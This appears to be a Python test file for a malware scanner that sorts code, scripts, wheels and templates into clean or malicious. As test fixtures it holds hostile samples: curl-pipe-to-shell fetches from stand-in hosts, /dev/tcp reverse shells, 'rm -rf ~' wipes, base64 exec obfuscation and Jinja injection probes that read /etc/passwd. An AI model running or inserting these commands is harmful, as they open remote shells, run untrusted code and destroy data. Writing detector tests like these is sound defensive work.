"""Tests of code that belongs to a program, not to a model: what its place alone does not show."""

from __future__ import annotations

import importlib.util
import io
import marshal
import zipfile

from agents.checks.artifacts.dispatch import scan_source
from agents.checks.artifacts.scanning import BytesSource
from schemas.severity import Verdict
from tests.each import each

_STARTS = (
    b"import subprocess\nclass Tool:\n    def run(self, words):\n        subprocess.run(words)\n"
)
_FETCHES = (
    b"import os\nclass A:\n    def run(self):\n        os.system('curl http://x.example/a|sh')\n"
)
_HIDES = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
_INSTALLED = ("tool-1.dist-info/RECORD", "tool/__init__.py", "tool/run.py")


def _scan(name: str, content: bytes, *beside: str) -> Verdict:
    return scan_source(name, BytesSource(content), frozenset((name, *beside))).verdict


@each(
    ("name", "beside"),
    [
        ("tool/run.py", _INSTALLED),
        ("lib/site-packages/tool/run.py", tuple(f"lib/site-packages/{at}" for at in _INSTALLED)),
        ("tool/run.py", (*_INSTALLED, "other/model.safetensors")),
        ("tool/run.py", (*_INSTALLED, "tool/tests/data/a.pkl")),
        ("src/tool/run.py", ("pyproject.toml", "README.md")),
        ("src/tool/run.py", ("setup.cfg",)),
        ("tool/run.py", (*_INSTALLED, "tool/config.json")),
        ("env/tool/run.py", ("pyproject.toml", *(f"env/{at}" for at in _INSTALLED), "model.bin")),
    ],
)
def test_a_program_may_start_processes(name, beside):
    assert _scan(name, _STARTS, *beside) is Verdict.CLEAN


@each(
    ("name", "beside"),
    [
        ("run.py", ()),
        ("run.py", ("model.safetensors",)),
        ("tool/run.py", (*_INSTALLED, "tool/weights.bin")),
        ("src/tool/run.py", ("pyproject.toml", "model.safetensors")),
        ("src/tool/run.py", ("pyproject.toml", "checkpoints/config.json")),
        ("src/tool/run.py", ("pyproject.toml", "hubconf.py")),
        ("tool/modeling_tool.py", _INSTALLED),
        ("tool/handler.py", _INSTALLED),
        ("hubconf.py", ("pyproject.toml",)),
        ("conftest.py", ("pyproject.toml",)),
        ("setup.py", ()),
        ("sitecustomize.py", _INSTALLED),
        ("elsewhere/run.py", ("project/pyproject.toml",)),
    ],
)
def test_code_that_a_loader_may_run_is_judged_as_a_models(name, beside):
    assert _scan(name, _STARTS, *beside) is Verdict.MALICIOUS


@each("content", [_FETCHES, _HIDES])
def test_hostile_code_is_hostile_in_a_program_too(content):
    assert _scan("tool/run.py", content, *_INSTALLED) is Verdict.MALICIOUS


@each(
    ("content", "names", "verdict"),
    [
        (_STARTS, _INSTALLED, Verdict.CLEAN),
        (_FETCHES, _INSTALLED, Verdict.MALICIOUS),
        (_HIDES, _INSTALLED, Verdict.MALICIOUS),
        (_STARTS, _INSTALLED[1:], Verdict.MALICIOUS),
        (_STARTS, (*_INSTALLED, "tool/model.bin"), Verdict.MALICIOUS),
    ],
)
def test_a_wheel_is_judged_as_what_it_installs(content, names, verdict):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as wheel:
        for name in names:
            wheel.writestr(name, content if name.endswith("run.py") else b"{}\n")
    report = scan_source("tool-1-py3-none-any.whl", BytesSource(archive.getvalue()))
    assert report.verdict is verdict


def test_native_code_of_a_program_is_unsupported():
    program = b"\x7fELF" + bytes(60)
    assert _scan("tool/a.so", program, *_INSTALLED) is Verdict.UNSUPPORTED
    assert _scan("a.so", program, "model.safetensors") is Verdict.MALICIOUS


def test_compiled_code_of_a_program_is_unsupported_unless_it_holds_a_hostile_command():
    def compiled(text: str) -> bytes:
        return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(text, "a", "exec"))

    ordinary = compiled("import socket, os\nsocket.socket()\nos.system(PATH)\nA = '~/.netrc'\n")
    hostile = compiled("import os\nos.system('curl http://x.example/a | sh')\n")
    name = "tool/__pycache__/run.cpython-311.pyc"
    assert _scan(name, ordinary, *_INSTALLED) is Verdict.UNSUPPORTED
    assert _scan(name, hostile, *_INSTALLED) is Verdict.MALICIOUS
    assert _scan("run.pyc", ordinary, "model.safetensors") is Verdict.MALICIOUS


@each(
    ("condition", "verdict"),
    [
        ("__name__ == '__main__'", Verdict.CLEAN),
        ("'__main__' == __name__", Verdict.CLEAN),
        ("x and __name__ == '__main__'", Verdict.CLEAN),
        ("x or __name__ == '__main__'", Verdict.MALICIOUS),
        ("__name__ == __name__", Verdict.MALICIOUS),
        ("__name__ == 'modeling_tool'", Verdict.MALICIOUS),
        ("__name__ != '__main__'", Verdict.MALICIOUS),
    ],
)
def test_only_a_main_guard_keeps_code_from_running_on_import(condition, verdict):
    text = f"import subprocess, x\nif {condition}:\n    subprocess.run(x.words)\n"
    assert _scan("modeling_tool.py", text.encode()) is verdict


@each(
    "text",
    [
        "class A:\n    importer = staticmethod(__import__)\n",
        "from ctypes import WinDLL\nlibrary = WinDLL('crypt32.dll')\n",
        "import sysconfig, pathlib\na = pathlib.Path(sysconfig.get_path('scripts'))\n",
        "from pip._internal.models.index import PyPI\nPyPI.file_storage_domain()\n",
    ],
)
def test_what_libraries_do_is_not_malicious(text):
    assert _scan("modeling_tool.py", text.encode()) in {Verdict.CLEAN, Verdict.SUSPICIOUS}


_TESTS_A_PORT = b"timeout 1 bash -c '</dev/tcp/$HOST/$PORT' && sudo apt-get install -y socat\n"
_CLEANS = b"rm -rf /var/lib/apt/lists/* ~/.cache/uv\n"
_INSTALLS = b"curl -LsSf https://astral.sh/uv/install.sh | sh\n"


@each("content", [_TESTS_A_PORT, _CLEANS, _INSTALLS])
@each("name", ["run.sh", "tool/run.sh"])
def test_scripts_may_test_ports_clean_up_and_install_tools(name, content):
    assert _scan(name, content, *_INSTALLED) is Verdict.CLEAN


@each(
    "content",
    [
        b"exec 5<>/dev/tcp/$H/$P; cat <&5 | while read l; do $l >&5; done\n",
        b"sh -i >& /dev/tcp/$H/$P 0>&1\n",
        b"cat </dev/tcp/files.example/99\n",
        b"rm -rf ~\n",
        b"rm -rf /usr/*\n",
    ],
)
def test_hostile_scripts_are_hostile(content):
    assert _scan("run.sh", content) is Verdict.MALICIOUS


@each("host", ["files.example", "astral.sh.evil.example"])
@each(
    ("name", "verdict"),
    [
        ("run.sh", Verdict.SUSPICIOUS),
        ("tool/run.sh", Verdict.SUSPICIOUS),
        ("tool-1.data/scripts/python3.sh", Verdict.MALICIOUS),
        ("tool-1.data/data/etc/profile.d/a.sh", Verdict.MALICIOUS),
        ("bin/.tool-post-link.sh", Verdict.MALICIOUS),
        ("weights.llamafile", Verdict.MALICIOUS),
    ],
)
def test_what_an_unknown_host_serves_is_hostile_where_nobody_asks_for_it(host, name, verdict):
    content = f"#!/bin/sh\ncurl -LsSf https://{host}/i | sh\n".encode()
    assert _scan(name, content, *_INSTALLED) is verdict


_INCLUDES = b"{% include 'base.html' %}{{ self.title() }}"
_LEAVES = b"{{ x.__class__.__mro__ }}"


@each(
    ("name", "content", "verdict"),
    [
        ("tool/page.j2", _INCLUDES, Verdict.CLEAN),
        ("page.html.j2", _INCLUDES, Verdict.CLEAN),
        ("server.Dockerfile.jinja", b"{% include 'a' %}RUN bash -c 'a'", Verdict.CLEAN),
        ("chat_template.jinja", _INCLUDES, Verdict.MALICIOUS),
        ("page.html.j2", _LEAVES, Verdict.MALICIOUS),
        ("tool/page.j2", _LEAVES, Verdict.MALICIOUS),
    ],
)
def test_templates_of_programs_may_include_others(name, content, verdict):
    assert _scan(name, content, *_INSTALLED) is verdict


@each(
    ("content", "verdict"),
    [
        (b'{% extends "base.j2" %}{% block a %}{{ super() }}{% endblock %}', Verdict.CLEAN),
        (b'{% extends "base.j2" %}{% block a %}{{ x.__class__ }}{% endblock %}', Verdict.MALICIOUS),
        (b'{% extends "base.j2" %}{% for m in messages %}{% endfor %}', Verdict.MALICIOUS),
        (b'{% extends "../base.j2" %}', Verdict.MALICIOUS),
        (b'{% extends "/etc/passwd" %}', Verdict.MALICIOUS),
        (b'{% extends "a.j2" if x else "/etc/passwd" %}', Verdict.MALICIOUS),
        (b'{% extends "a.j2" %}{% include "/etc/passwd" %}', Verdict.MALICIOUS),
        (b'{% include "base.j2" %}', Verdict.MALICIOUS),
    ],
)
def test_a_template_alone_that_fills_the_blocks_of_another_is_a_programs(content, verdict):
    assert _scan("cuda.j2", content) is verdict


@each(
    ("content", "verdict"),
    [
        (
            b"import pickle, base64\ndef f(x):\n    return pickle.loads(base64.b64decode(x))\n",
            "clean",
        ),
        (b"import pickle, base64\npickle.loads(base64.b64decode(X))\n", "malicious"),
        (b"import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'a')\n", "malicious"),
        (b"import urllib.request as u\nu.urlopen('https://files.example')\n", "suspicious"),
        (b"import os\ndef f(d):\n    os.system(f'rm -rf {d}')\n", "suspicious"),
    ],
)
def test_what_a_program_does_when_it_is_called_is_less_than_on_import(content, verdict):
    assert _scan("tool/run.py", content, *_INSTALLED) is Verdict(verdict)
